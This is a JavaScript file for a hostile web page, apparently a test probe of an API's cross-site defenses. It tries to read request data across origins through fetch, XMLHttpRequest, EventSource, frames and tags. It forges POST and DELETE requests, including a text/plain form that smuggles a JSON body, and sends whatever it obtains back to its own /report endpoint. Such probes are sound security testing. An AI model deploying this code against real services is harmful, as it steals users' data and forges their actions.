/**
 * Runs in a browser, on a page that somebody was lured to: tries by every means of a page to read what an API holds and to
 * change it, and tells its own server what it got. usage: /hostile?api=<origin of the API>
 */
const api = new URL(location.href).searchParams.get('api');
const requests = `${api}/api/claude/requests`;
const feedback = `${api}/api/claude/feedback`;
const rating = '{"request_id":"last","rating":1}';

const attempts = {
  fetch: () => read(requests),
  'fetch with cookies': () => read(requests, { credentials: 'include' }),
  'fetch without CORS': () => read(requests, { mode: 'no-cors' }),
  'fetch with a guessed token': () => read(requests, { headers: { authorization: 'Bearer guessed' } }),
  'fetch of the document': () => read(`${api}/openapi.json`),
  'a request of the old kind': () => ask(requests),
  'a stream of events': () => listen(`${api}/api/claude/events`),
  'a frame': () => frame(requests),
  'a frame of the page to read': () => frame(`${api}/docs`),
  'an image': () => load('img', requests),
  'a script': () => load('script', requests),
  'a script of the document': () => load('script', `${api}/openapi.json`),
  'a post of plain text': () => read(feedback, { method: 'POST', body: rating }),
  'a post without CORS': () => read(feedback, { method: 'POST', mode: 'no-cors', body: rating }),
  'a post of JSON': () =>
    read(feedback, { method: 'POST', headers: { 'content-type': 'application/json' }, body: rating }),
  'a form': () => submit(feedback),
  'a delete': () => read(`${feedback}/last`, { method: 'DELETE' }),
};

const found = [];
for (const [name, attempt] of Object.entries(attempts)) {
  found.push({ name, read: await attempt() });
}
await fetch('/report', { method: 'POST', body: JSON.stringify(found) });

async function read(url, options) {
  const response = await fetch(url, options).catch(() => null); // what may not be read is no response
  return (await response?.text()) || null;
}

function ask(url) {
  return new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.onloadend = () => resolve(request.responseText || null);
    request.open('GET', url);
    request.send();
  });
}

function listen(url) {
  return new Promise((resolve) => {
    const events = new EventSource(url, { withCredentials: true });
    const end = (got) => {
      events.close();
      resolve(got);
    };
    events.onopen = () => end('open');
    events.onerror = () => end(null);
  });
}

async function frame(url) {
  const element = document.createElement('iframe');
  element.src = url;
  await shown(element);
  return textIn(element);
}

/** JSON, made of the name and the value of a field, with the `=` that a browser puts between them in a comment. */
async function submit(url) {
  const element = document.createElement('iframe');
  element.name = 'answer';
  await shown(element);
  const form = document.createElement('form');
  Object.assign(form, { action: url, method: 'POST', enctype: 'text/plain', target: 'answer' });
  const field = document.createElement('input');
  field.name = rating.replace('}', ',"feedback_text":"');
  field.value = '"}';
  form.append(field);
  document.body.append(form);
  const answered = loaded(element);
  form.submit();
  await answered;
  return textIn(element);
}

/** For a page of another site there is no document. */
function textIn(frame) {
  return frame.contentDocument?.documentElement.textContent || null;
}

async function load(tag, url) {
  const element = document.createElement(tag);
  element.src = url;
  return (await shown(element)) === 'load' ? 'loaded' : null;
}

function shown(element) {
  const end = loaded(element);
  document.body.append(element);
  return end;
}

function loaded(element) {
  return new Promise((resolve) => {
    for (const name of ['load', 'error']) element.addEventListener(name, () => resolve(name), { once: true });
  });
}
